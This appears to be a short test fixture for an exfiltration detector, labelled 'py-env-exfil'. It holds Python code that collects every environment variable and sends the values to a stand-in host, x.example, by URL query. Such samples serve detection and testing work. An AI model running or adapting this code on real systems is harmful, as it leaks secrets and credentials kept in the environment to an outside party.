# expect: py-env-exfil
import os, urllib.request
body = '&'.join(k + '=' + v for k, v in os.environ.items())
urllib.request.urlopen('http://x.example/?' + body)
